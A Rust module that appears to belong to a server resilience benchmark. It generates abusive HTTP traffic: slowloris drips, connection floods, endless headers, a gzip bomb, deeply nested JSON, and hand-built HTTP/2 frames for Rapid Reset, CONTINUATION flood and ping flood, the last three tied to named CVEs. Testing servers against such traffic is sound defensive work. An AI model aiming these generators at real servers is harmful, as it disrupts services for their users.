//! What attackers send.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;

use super::crowd::{Attack, Then};

/// Where the well-behaved client of [`super::bystander`] saves, and some attackers listen.
pub(super) const COLLECTION: &str = "/bench";

/// A document of a megabyte, for those who ask and do not read.
pub(super) const LARGE: &str = "/large/1";

/// Of documents that do not fit any socket's buffer.
pub(super) const LARGE_BYTES: usize = 1024 * 1024;

/// What a bomb of gzip becomes: far over the largest document.
const BOMB_BYTES: usize = 256 * 1024 * 1024;

/// Deeper than any JSON may be.
const BRACKETS: usize = 1024 * 1024;

/// Requests that an attacker of HTTP/1.1 sends at once.
const PIPELINED: usize = 64;

/// A kind of abuse.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    Silent,
    TooMany,
    SlowHeads,
    SlowContent,
    Unread,
    UnreadStreams,
    EndlessFields,
    Brackets,
    Bombs,
    RapidReset,
    Continuations,
    Pings,
}

pub(super) const KINDS: [Kind; 12] = [
    Kind::Silent,
    Kind::TooMany,
    Kind::SlowHeads,
    Kind::SlowContent,
    Kind::Unread,
    Kind::UnreadStreams,
    Kind::EndlessFields,
    Kind::Brackets,
    Kind::Bombs,
    Kind::RapidReset,
    Kind::Continuations,
    Kind::Pings,
];

impl Kind {
    /// What is printed of it.
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Silent => "connections that say nothing",
            Self::TooMany => "more connections than allowed",
            Self::SlowHeads => "header fields, a byte a second",
            Self::SlowContent => "content, a byte a second",
            Self::Unread => "answers that nobody reads",
            Self::UnreadStreams => "streams that nobody reads",
            Self::EndlessFields => "header fields without end",
            Self::Brackets => "a megabyte of '['",
            Self::Bombs => "256 MiB in 256 KiB of gzip",
            Self::RapidReset => "HTTP/2: requests taken back",
            Self::Continuations => "HTTP/2: fields without end",
            Self::Pings => "HTTP/2: pings, unread",
        }
    }

    /// The attack on the server with this value of `Host`, over one part in `share` of the
    /// connections that it has in full.
    pub(super) fn attack(self, host: &str, share: usize) -> Attack {
        let attack = match self {
            Self::Silent => still(9_900, Vec::new(), Then::Silence),
            Self::TooMany => still(12_000, Vec::new(), Then::Silence),
            Self::SlowHeads => {
                let begin = format!("GET /bench/1 HTTP/1.1\r\nHost: {host}\r\nX: ");
                still(2_000, begin.into_bytes(), Then::Drip(b'x'))
            }
            Self::SlowContent => {
                let begin = put(host, "", 100_000);
                still(2_000, begin.into_bytes(), Then::Drip(b' '))
            }
            Self::Unread => {
                let request = format!("GET {LARGE} HTTP/1.1\r\nHost: {host}\r\n\r\n");
                unread(1_000, request.repeat(PIPELINED).into_bytes())
            }
            Self::UnreadStreams => {
                let request = crate::stream::request(COLLECTION, host);
                unread(1_000, request)
            }
            Self::EndlessFields => {
                let begin = format!("GET /bench/1 HTTP/1.1\r\nHost: {host}\r\n");
                let field = format!("X: {}\r\n", "a".repeat(1_000));
                flood(64, begin.into_bytes(), move |_, more| {
                    more.extend_from_slice(field.as_bytes());
                })
            }
            Self::Brackets => {
                let content = vec![b'['; BRACKETS];
                let mut request = put(host, "", content.len()).into_bytes();
                request.extend(content);
                repeated(16, request)
            }
            Self::Bombs => {
                let content = bomb(BOMB_BYTES);
                let coding = "Content-Encoding: gzip\r\n";
                let mut request = put(host, coding, content.len()).into_bytes();
                request.extend(content);
                repeated(16, request)
            }
            Self::RapidReset => rapid_reset(host),
            Self::Continuations => continuations(host),
            Self::Pings => Attack {
                reads: false,
                ..pings()
            },
        };
        Attack {
            connections: (attack.connections / share).max(1),
            ..attack
        }
    }
}

/// Those who wait, and are gone when the server ends them.
fn still(connections: usize, opening: Vec<u8>, then: Then) -> Attack {
    Attack {
        connections,
        opening,
        then,
        reads: true,
        comes_back: false,
    }
}

/// Those who ask and do not read.
fn unread(connections: usize, opening: Vec<u8>) -> Attack {
    Attack {
        reads: false,
        ..still(connections, opening, Then::Silence)
    }
}

/// Those who send as fast as they can, and come back.
fn flood(
    connections: usize,
    opening: Vec<u8>,
    more: impl Fn(u32, &mut Vec<u8>) + Sync + 'static,
) -> Attack {
    Attack {
        connections,
        opening,
        then: Then::Flood(Box::new(more)),
        reads: true,
        comes_back: true,
    }
}

fn repeated(connections: usize, request: Vec<u8>) -> Attack {
    flood(connections, Vec::new(), move |_, more| {
        more.extend_from_slice(&request);
    })
}

/// CVE-2023-44487: requests that are taken back at once.
fn rapid_reset(host: &str) -> Attack {
    let get = h2::get(host);
    flood(16, h2::preface(), move |turn, more| {
        for stream in h2::streams(turn) {
            let flags = h2::END_HEADERS | h2::END_STREAM;
            more.extend(h2::frame(h2::HEADERS, flags, stream, &get));
            let cancel = h2::CANCEL.to_be_bytes();
            more.extend(h2::frame(h2::RST_STREAM, 0, stream, &cancel));
        }
    })
}

/// CVE-2024-27316: a header section that never ends.
fn continuations(host: &str) -> Attack {
    let mut opening = h2::preface();
    opening.extend(h2::frame(h2::HEADERS, h2::END_STREAM, 1, &h2::get(host)));
    let more = h2::frame(h2::CONTINUATION, 0, 1, &h2::fields());
    flood(16, opening, move |_, bytes| bytes.extend_from_slice(&more))
}

/// CVE-2019-9512: frames that must be answered.
fn pings() -> Attack {
    let pings = h2::frame(h2::PING, 0, 0, &[0; 8]).repeat(1_000);
    flood(16, h2::preface(), move |_, more| {
        more.extend_from_slice(&pings);
    })
}

/// The head of a PUT with `fields` of its own, each with its end of line.
fn put(host: &str, fields: &str, length: usize) -> String {
    format!(
        "PUT /abused/1 HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n{fields}\
         Content-Length: {length}\r\n\r\n"
    )
}

/// So many spaces, in gzip.
fn bomb(bytes: usize) -> Vec<u8> {
    let mut coded = GzEncoder::new(Vec::new(), Compression::best());
    let spaces = vec![b' '; 64 * 1024];
    // Writing to a vector cannot fail.
    for _ in 0..bytes / spaces.len() {
        let _ = coded.write_all(&spaces);
    }
    coded.finish().unwrap_or_default()
}

/// HTTP/2, as far as attackers speak it (RFC 9113; HPACK without its table, RFC 7541 §6).
mod h2 {
    pub(super) const HEADERS: u8 = 1;
    pub(super) const RST_STREAM: u8 = 3;
    const SETTINGS: u8 = 4;
    pub(super) const PING: u8 = 6;
    pub(super) const CONTINUATION: u8 = 9;

    pub(super) const END_STREAM: u8 = 1;
    pub(super) const END_HEADERS: u8 = 4;

    /// The error code of a request that the client takes back.
    pub(super) const CANCEL: u32 = 8;

    /// So many requests are sent in one turn.
    const STREAMS: u32 = 100;

    pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
        let [_, length @ ..] = u32::try_from(payload.len())
            .unwrap_or_default()
            .to_be_bytes();
        let mut bytes = length.to_vec();
        bytes.extend([kind, flags]);
        bytes.extend(stream.to_be_bytes());
        bytes.extend_from_slice(payload);
        bytes
    }

    pub(super) fn preface() -> Vec<u8> {
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &[]));
        bytes
    }

    /// The numbers of a turn's streams: odd ones, each greater than the one before.
    pub(super) fn streams(turn: u32) -> impl Iterator<Item = u32> {
        let from = turn.saturating_mul(STREAMS);
        (from..from.saturating_add(STREAMS)).map(|index| index.saturating_mul(2) | 1)
    }

    /// `GET /bench/1`.
    pub(super) fn get(host: &str) -> Vec<u8> {
        const PATH: &[u8] = b"/bench/1";
        // `:method: GET` and `:scheme: http` by index, then `:path` and `:authority`.
        let mut block = vec![0x82, 0x86];
        for (name, value) in [(0x04, PATH), (0x01, host.as_bytes())] {
            block.push(name);
            block.push(u8::try_from(value.len()).unwrap_or_default());
            block.extend_from_slice(value);
        }
        block
    }

    /// Fifteen fields of a thousand bytes, never indexed.
    pub(super) fn fields() -> Vec<u8> {
        let mut field = vec![0x10, 1, b'x', 0x7f, 0x81, 0x07];
        field.extend([b'a'; 1_024]);
        field.repeat(15)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small() {
        let bytes = 1024 * 1024;
        assert!(bomb(bytes).len() < bytes / 500);
    }

    #[test]
    fn streams_have_numbers_of_their_own() {
        let numbers: Vec<u32> = (0..3).flat_map(h2::streams).collect();
        assert!(numbers.is_sorted_by(|a, b| a < b));
        assert!(numbers.iter().all(|number| number % 2 == 1));
    }
}
